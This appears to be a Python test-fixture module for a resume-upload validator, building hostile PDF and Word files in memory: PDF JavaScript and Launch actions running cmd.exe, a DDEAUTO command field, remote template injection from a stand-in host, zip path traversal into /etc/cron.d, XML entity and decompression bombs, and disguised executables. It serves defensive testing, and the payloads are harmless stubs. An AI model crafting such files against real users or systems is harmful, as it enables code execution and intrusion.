"""Hostile uploads, one builder for each kind, made here so that no dangerous file is ever kept."""

import zipfile
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.support import real_files
from weimproovi.vocabulary import DocumentProblem

SCRIPT = "app.alert('halo')"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _pdf(change: Callable[[pikepdf.Pdf], object], **saving: object) -> bytes:
    target = BytesIO()
    with pikepdf.open(BytesIO(real_files.pdf())) as pdf:
        change(pdf)
        pdf.save(target, **saving)
    return target.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name("/JavaScript"), JS=String(SCRIPT))


def encrypted_pdf() -> bytes:
    return _pdf(lambda pdf: None, encryption=pikepdf.Encryption(owner="satu", user="dua"))


def owner_locked_pdf() -> bytes:
    return _pdf(lambda pdf: None, encryption=pikepdf.Encryption(owner="satu", user=""))


def script_on_open() -> bytes:
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _script()))


def script_with_hex_name() -> bytes:
    return script_on_open().replace(b"/JavaScript", b"/J#61va#53cript")


def script_in_object_stream() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(_script())

    return _pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def script_in_names_tree() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(_script())])))

    return _pdf(change)


def script_on_page() -> bytes:
    return _pdf(lambda pdf: pdf.pages[0].__setattr__("AA", Dictionary(O=_script())))


def script_behind_another_action() -> bytes:
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", Dictionary(S=Name.URI, URI=String("https://contoh.id"), Next=Array([_script()]))))


def launch_action() -> bytes:
    return _pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe"))))


def attached_file() -> bytes:
    return _pdf(lambda pdf: pdf.attachments.__setitem__("lain.exe", b"MZ isi"))


def attachment_annotation() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9]))])

    return _pdf(change)


def rich_media() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]))])

    return _pdf(change)


def xfa_form() -> bytes:
    return _pdf(lambda pdf: pdf.Root.__setattr__("AcroForm", Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))))


def outside_stream() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"")
        stream.F = String("/etc/passwd")
        pdf.Root.Lain = pdf.make_indirect(stream)

    return _pdf(change)


def pdf_stream_bomb() -> bytes:
    """A page picture that claims 4 gigapixels."""

    def change(pdf: pikepdf.Pdf) -> None:
        picture = pdf.make_stream(b"\0" * 65536)
        picture.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=65500, Height=65500, BitsPerComponent=8, ColorSpace=Name.DeviceRGB
        )
        pdf.pages[0].Resources.XObject = Dictionary(Im0=pdf.make_indirect(picture))
        pdf.pages[0].Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q " * 400)

    return _pdf(change)


def truncated_pdf() -> bytes:
    whole = real_files.pdf(3)
    return whole[: len(whole) * 2 // 3]


def noise_behind_pdf_header() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 64 + b"\n%%EOF"


def too_many_pages() -> bytes:
    return real_files.pdf(21)


def page_behind_pdf_name() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


def program_behind_pdf_name() -> bytes:
    return b"MZ\x90\0" + b"\0" * 4096


def empty_file() -> bytes:
    return b""


def too_big() -> bytes:
    return real_files.pdf() + b"\n" * (10 * 1024 * 1024)


def _word(change: Callable[[dict[str, bytes]], object]) -> bytes:
    """The honest Word resume with its parts changed."""
    with zipfile.ZipFile(BytesIO(real_files.word_bytes())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def _replace(part: str, old: str, new: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old.encode() in parts[part]
        parts[part] = parts[part].replace(old.encode(), new.encode(), 1)

    return change


def _relate(kind: str, target: str, *, external: bool, part: str = "word/_rels/document.xml.rels") -> Callable[[dict[str, bytes]], None]:
    mode = ' TargetMode="External"' if external else ""
    added = f'<Relationship Id="rId900" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'

    def change(parts: dict[str, bytes]) -> None:
        parts[part] = parts.get(part, empty.encode()).replace(b"</Relationships>", added.encode())

    return change


def word_with_macro() -> bytes:
    return _word(lambda parts: parts.__setitem__("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))


def word_macro_enabled() -> bytes:
    return _word(_replace("[Content_Types].xml", WORD_TYPE, MACRO_TYPE))


def word_with_command_field() -> bytes:
    field = '<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\cmd.exe</w:instrText></w:r></w:p><w:sectPr'
    return _word(_replace("word/document.xml", "<w:sectPr", field))


def word_with_server_template() -> bytes:
    return _word(_relate("attachedTemplate", "https://jahat.example/a.dotm", external=True, part="word/_rels/settings.xml.rels"))


def word_with_share_template() -> bytes:
    return _word(_relate("attachedTemplate", "file://jahat/a.dotm", external=True, part="word/_rels/settings.xml.rels"))


def word_with_outside_picture() -> bytes:
    return _word(_relate("image", "https://jahat.example/pixel.png", external=True))


def word_with_ole() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        _relate("oleObject", "embeddings/oleObject1.bin", external=False)(parts)
        parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0isi"

    return _word(change)


def word_with_alternative_text() -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        _relate("aFChunk", "lain.html", external=False)(parts)
        parts["word/lain.html"] = b"<script>alert(1)</script>"

    return _word(change)


def word_with_program() -> bytes:
    return _word(lambda parts: parts.__setitem__("word/media/image1.png", b"MZ\x90\0program"))


def word_ratio_bomb() -> bytes:
    return _word(lambda parts: parts.__setitem__("word/media/nol.bmp", b"\0" * 30_000_000))


def word_total_bomb() -> bytes:
    noise = bytes(range(256)) * 4096
    return _word(lambda parts: parts.update({f"word/media/{number}.bmp": noise for number in range(70)}))


def word_entries_bomb() -> bytes:
    return _word(lambda parts: parts.update({f"word/media/{number}.png": b"a" for number in range(600)}))


def word_entity_bomb() -> bytes:
    layers = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    bomb = f'<!DOCTYPE w [<!ENTITY a0 "ha">{layers}]><w:document'
    return _word(_replace("word/document.xml", "<w:document", bomb))


def word_leaving_its_folder() -> bytes:
    return _word(lambda parts: parts.__setitem__("../../etc/cron.d/jahat", b"isi"))


def word_with_absolute_path() -> bytes:
    return _word(lambda parts: parts.__setitem__("/etc/cron.d/jahat", b"isi"))


def encrypted_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1024


def sealed_zip() -> bytes:
    content = bytearray(real_files.word_bytes())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def truncated_word() -> bytes:
    return real_files.word_bytes()[:-2000]


def damaged_word() -> bytes:
    content = bytearray(real_files.word_bytes())
    at = content.find(b"word/document.xml") + 40
    content[at : at + 64] = b"\xff" * 64
    return bytes(content)


def spreadsheet_behind_word_name() -> bytes:
    return _word(_replace("[Content_Types].xml", WORD_TYPE, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"))


def plain_zip() -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("cv.txt", "Sukarno")
    return target.getvalue()


def word_without_words() -> bytes:
    import docx

    return real_files.saved(docx.Document())


def endless_word() -> bytes:
    document = real_files.word()
    for number in range(2500):
        document.add_paragraph(f"Baris {number} yang memenuhi halaman")
    return real_files.saved(document)


HOSTILE: dict[Callable[[], bytes], DocumentProblem] = {
    encrypted_pdf: DocumentProblem.ENCRYPTED,
    owner_locked_pdf: DocumentProblem.ENCRYPTED,
    script_on_open: DocumentProblem.SCRIPT,
    script_with_hex_name: DocumentProblem.SCRIPT,
    script_in_object_stream: DocumentProblem.SCRIPT,
    script_in_names_tree: DocumentProblem.SCRIPT,
    script_on_page: DocumentProblem.SCRIPT,
    script_behind_another_action: DocumentProblem.SCRIPT,
    xfa_form: DocumentProblem.SCRIPT,
    launch_action: DocumentProblem.LAUNCH,
    attached_file: DocumentProblem.EMBEDDED_FILE,
    attachment_annotation: DocumentProblem.EMBEDDED_FILE,
    rich_media: DocumentProblem.EMBEDDED_FILE,
    outside_stream: DocumentProblem.EXTERNAL,
    truncated_pdf: DocumentProblem.UNREADABLE,
    noise_behind_pdf_header: DocumentProblem.UNREADABLE,
    too_many_pages: DocumentProblem.TOO_MANY_PAGES,
    page_behind_pdf_name: DocumentProblem.WRONG_TYPE,
    program_behind_pdf_name: DocumentProblem.WRONG_TYPE,
    empty_file: DocumentProblem.EMPTY,
    real_files.blank_pdf: DocumentProblem.EMPTY,
    too_big: DocumentProblem.TOO_BIG,
    word_with_macro: DocumentProblem.MACRO,
    word_macro_enabled: DocumentProblem.MACRO,
    word_with_command_field: DocumentProblem.MACRO,
    word_with_server_template: DocumentProblem.EXTERNAL,
    word_with_share_template: DocumentProblem.EXTERNAL,
    word_with_outside_picture: DocumentProblem.EXTERNAL,
    word_with_ole: DocumentProblem.EMBEDDED_FILE,
    word_with_alternative_text: DocumentProblem.EMBEDDED_FILE,
    word_with_program: DocumentProblem.EMBEDDED_FILE,
    word_ratio_bomb: DocumentProblem.BOMB,
    word_total_bomb: DocumentProblem.BOMB,
    word_entries_bomb: DocumentProblem.BOMB,
    word_entity_bomb: DocumentProblem.BOMB,
    word_leaving_its_folder: DocumentProblem.UNREADABLE,
    word_with_absolute_path: DocumentProblem.UNREADABLE,
    encrypted_word: DocumentProblem.ENCRYPTED,
    sealed_zip: DocumentProblem.ENCRYPTED,
    old_word: DocumentProblem.WRONG_TYPE,
    truncated_word: DocumentProblem.UNREADABLE,
    damaged_word: DocumentProblem.UNREADABLE,
    spreadsheet_behind_word_name: DocumentProblem.WRONG_TYPE,
    plain_zip: DocumentProblem.WRONG_TYPE,
    word_without_words: DocumentProblem.EMPTY,
    endless_word: DocumentProblem.TOO_MANY_PAGES,
}
